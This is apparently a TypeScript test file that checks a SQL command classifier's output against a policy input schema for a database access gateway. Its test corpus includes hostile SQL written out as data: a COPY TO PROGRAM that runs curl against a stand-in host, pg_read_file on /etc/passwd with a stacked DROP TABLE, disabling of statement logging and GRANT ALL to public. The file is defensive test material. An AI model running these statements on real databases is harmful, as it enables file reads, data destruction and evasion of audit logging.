// The classifier (@portcullis/sql) and the policies agree on one contract: what
// the classifier produces must validate against the policy input schema, and
// the schema must know exactly the statement kinds the classifier can produce.
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { classifyCommand, initSqlParser, STATEMENT_KINDS } from '@portcullis/sql';
import { policyInputSchema } from './input-schema.js';
import { checkSchema } from './check-schema.js';

before(async () => {
  await initSqlParser();
});

test('the input schema lists exactly the statement kinds the classifier produces', () => {
  const defs = policyInputSchema.$defs as { statement_kind: { enum: string[] } };
  assert.deepEqual([...defs.statement_kind.enum].sort(), [...STATEMENT_KINDS].sort());
});

const corpus = [
  'SELECT id, email FROM users WHERE id = 1',
  'WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d',
  'UPDATE accounts SET balance = 0 WHERE 1 = 1',
  "COPY (SELECT * FROM users) TO PROGRAM 'curl evil'",
  'EXPLAIN ANALYZE DELETE FROM sessions',
  "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
  "SELECT pg_read_file('/etc/passwd'); DROP TABLE users",
  'ALTER SYSTEM SET log_statement = none',
  'GRANT ALL ON users TO public',
  'this is not sql',
];

test('every classification of the corpus is a valid policy input command', () => {
  for (const text of corpus) {
    const classification = classifyCommand(text);
    const input = {
      identity: { subject: 's', issuer: 'https://issuer', groups: [], roles: [] },
      target: { name: 'db', protocol: 'postgres', labels: {} },
      command: { text, protocol: 'postgres', ...classification },
      approval: { granted: false },
      now_ns: 1,
    };
    const problems = checkSchema(policyInputSchema, input);
    assert.deepEqual(problems, [], `${text}: ${JSON.stringify(problems)}`);
  }
});
